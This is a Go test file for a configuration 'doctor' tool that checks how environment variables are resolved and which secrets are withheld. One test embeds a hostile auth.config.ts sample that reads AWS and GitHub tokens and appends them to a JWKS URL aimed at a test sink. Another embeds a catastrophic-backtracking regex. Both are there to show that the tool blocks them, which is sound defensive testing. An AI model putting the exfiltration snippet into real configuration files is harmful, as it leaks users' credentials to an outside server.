package doctor

import (
	"context"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"sync"
	"testing"

	"github.com/convex-authkit/convex-authkit/internal/authjs"
	"github.com/convex-authkit/convex-authkit/internal/config"
	"github.com/convex-authkit/convex-authkit/internal/deployment"
	"github.com/convex-authkit/convex-authkit/internal/project"
	"github.com/convex-authkit/convex-authkit/internal/resolve"
)

func TestDeploymentEnvSources(t *testing.T) {
	files := map[string]string{
		".env.local": "VITE_CONVEX_URL=https://happy-otter-123.convex.cloud\nFROM_LOCAL=local\nSHARED=local\nSHADOWED=file\n",
		".env":       "SHARED=dotenv\nFROM_DOTENV=dotenv\nUNSET_ME=x\n",
		"convex.json": `{"authKit": {"prod": {"configure": {"redirectUris": ["${buildEnv.SITE_ORIGIN}/callback"]}},
  "dev": {"localEnvVars": {"HOST": "${buildEnv.DEV_HOST}"}}}}`,
	}
	machine := map[string]string{
		"WORKOS_CLIENT_ID":      "client_env",
		"WORKOS_API_HOSTNAME":   "auth.example.com",
		"SITE_ORIGIN":           "https://example.com",
		"DEV_HOST":              "http://localhost:3000",
		"AWS_SECRET_ACCESS_KEY": "aws-secret",
		"GITHUB_TOKEN":          "ghp_secret",
		"CONVEX_DEPLOY_KEY":     "prod:x|secret",
		"SHADOWED":              "machine",
		"NAMED":                 "named-by-flag",
	}
	tests := []struct {
		name     string
		flags    map[string]string
		denv     map[string]string
		want     map[string]string
		withheld []string
	}{
		{
			name: "dotenv files, expected machine names and derived URLs",
			want: map[string]string{
				"VITE_CONVEX_URL": "https://happy-otter-123.convex.cloud", "FROM_LOCAL": "local", "SHARED": "local", "SHADOWED": "file",
				"FROM_DOTENV": "dotenv", "UNSET_ME": "x",
				"WORKOS_CLIENT_ID": "client_env", "WORKOS_API_HOSTNAME": "auth.example.com",
				"SITE_ORIGIN": "https://example.com", "DEV_HOST": "http://localhost:3000",
				"CONVEX_CLOUD_URL": "https://happy-otter-123.convex.cloud", "CONVEX_SITE_URL": "https://happy-otter-123.convex.site",
			},
			withheld: []string{"AWS_SECRET_ACCESS_KEY", "CONVEX_DEPLOY_KEY", "GITHUB_TOKEN", "NAMED"},
		},
		{
			name:  "flags and --deployment-env win; empty unsets",
			flags: map[string]string{"WORKOS_CLIENT_ID": "client_flag"},
			denv:  map[string]string{"UNSET_ME": "", "NAMED": "named-by-flag", "CONVEX_SITE_URL": "https://custom.example.com"},
			want: map[string]string{
				"VITE_CONVEX_URL": "https://happy-otter-123.convex.cloud", "FROM_LOCAL": "local", "SHARED": "local", "SHADOWED": "file",
				"FROM_DOTENV": "dotenv", "NAMED": "named-by-flag",
				"WORKOS_CLIENT_ID": "client_flag", "WORKOS_API_HOSTNAME": "auth.example.com",
				"SITE_ORIGIN": "https://example.com", "DEV_HOST": "http://localhost:3000",
				"CONVEX_CLOUD_URL": "https://happy-otter-123.convex.cloud", "CONVEX_SITE_URL": "https://custom.example.com",
			},
			withheld: []string{"AWS_SECRET_ACCESS_KEY", "CONVEX_DEPLOY_KEY", "GITHUB_TOKEN"},
		},
	}
	dir := writeFiles(t, files)
	cfg, err := config.Parse("convex.json", []byte(files["convex.json"]))
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src, err := resolve.Load(resolve.Options{Dir: dir, Env: machine, Flags: tt.flags})
			if err != nil {
				t.Fatal(err)
			}
			d := &doctor{opts: Options{Options: project.Options{Dir: dir, Env: machine, Flags: tt.flags}, DeploymentEnv: tt.denv}, src: src, cfg: cfg}
			var r remoteDeployment
			r.start(context.Background(), &deployment.Attached{})
			de := d.deploymentEnv(&r)
			if !reflect.DeepEqual(de.vars, tt.want) {
				t.Errorf("vars\n got %v\nwant %v", de.vars, tt.want)
			}
			var withheld []string
			for _, n := range []string{"AWS_SECRET_ACCESS_KEY", "CONVEX_DEPLOY_KEY", "GITHUB_TOKEN", "NAMED"} {
				if de.withheld[n] {
					withheld = append(withheld, n)
				}
			}
			if !reflect.DeepEqual(withheld, tt.withheld) {
				t.Errorf("withheld %v, want %v", withheld, tt.withheld)
			}
		})
	}
}

func TestDeploymentURLs(t *testing.T) {
	for _, tt := range []struct{ in, cloud, site string }{
		{"https://happy-otter-123.convex.cloud", "https://happy-otter-123.convex.cloud", "https://happy-otter-123.convex.site"},
		{"https://happy-otter-123.eu-west-1.convex.cloud/", "https://happy-otter-123.eu-west-1.convex.cloud", "https://happy-otter-123.eu-west-1.convex.site"},
		{"http://127.0.0.1:3210", "http://127.0.0.1:3210", ""},
		{"not a url", "", ""},
	} {
		if c, s := deploymentURLs(tt.in); c != tt.cloud || s != tt.site {
			t.Errorf("deploymentURLs(%q) = %q, %q; want %q, %q", tt.in, c, s, tt.cloud, tt.site)
		}
	}
}

// TestHostileAuthConfig is issue 9's exfiltration: a file that reads the
// machine's secrets and builds its JWKS URL from them gets nothing, and
// the JWKS server learns nothing; the diagnosis says why.
func TestHostileAuthConfig(t *testing.T) {
	var mu sync.Mutex
	var seen []string
	sink := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.URL.String())
		mu.Unlock()
		http.NotFound(w, r)
	}))
	defer sink.Close()
	files := healthyFiles()
	files["convex/auth.config.ts"] = `
const grab = (n: string) => { try { return process.env[n]; } catch { return "none"; } };
const loot = encodeURIComponent(grab("AWS_SECRET_ACCESS_KEY") + "|" + grab("GITHUB_TOKEN"));
export default { providers: [{ type: "customJwt", issuer: "https://issuer.example.com", jwks: "` + sink.URL + `/jwks?d=" + loot, algorithm: "RS256" }] };
`
	dir := writeFiles(t, files)
	opts, _, _ := options(dir, startEmulator(t))
	opts.Env["AWS_SECRET_ACCESS_KEY"] = "aws-secret-value"
	opts.Env["GITHUB_TOKEN"] = "ghp_secretvalue"
	rep := diagnose(t, opts)

	mu.Lock()
	defer mu.Unlock()
	if len(seen) == 0 {
		t.Fatal("the JWKS URL was never fetched: the test proves nothing")
	}
	for _, u := range seen {
		if strings.Contains(u, "secret") || !strings.Contains(u, "none%7Cnone") {
			t.Errorf("the sink received %s", u)
		}
	}
	c := find(rep, IDAuthConfigEvaluates)
	if c.Status != StatusWarn || !strings.Contains(c.Hint, "set in your shell but not passed: AWS_SECRET_ACCESS_KEY, GITHUB_TOKEN") ||
		!strings.Contains(c.Hint, "--deployment-env AWS_SECRET_ACCESS_KEY --deployment-env GITHUB_TOKEN") {
		t.Errorf("%s: %s (hint: %s)", c.Status, c.Message, c.Hint)
	}
	reads := c.Details["envRead"].([]map[string]string)
	if len(reads) != 2 || reads[0]["source"] != "withheld from the environment" {
		t.Errorf("envRead = %v", reads)
	}
}

// TestLimitsReported: a file that never finishes or exhausts memory is a
// failed check with its own message, not a hang.
func TestLimitsReported(t *testing.T) {
	files := healthyFiles()
	files["convex/auth.config.ts"] = "const ok = /^((a+)+)\\2?$/.test(\"a\".repeat(40) + \"b\");\nexport default { providers: [] };\n"
	dir := writeFiles(t, files)
	opts, _, _ := options(dir, startEmulator(t))
	opts.Select, _ = Select([]string{IDAuthConfigEvaluates})
	rep := diagnose(t, opts)
	c := find(rep, IDAuthConfigEvaluates)
	want := "convex/auth.config.ts: evaluation took longer than " + authjs.DefaultTimeout.String() + " (a loop or a catastrophic regular expression?)"
	if c.Status != StatusFail || c.Message != want {
		t.Errorf("%s: %s", c.Status, c.Message)
	}
}
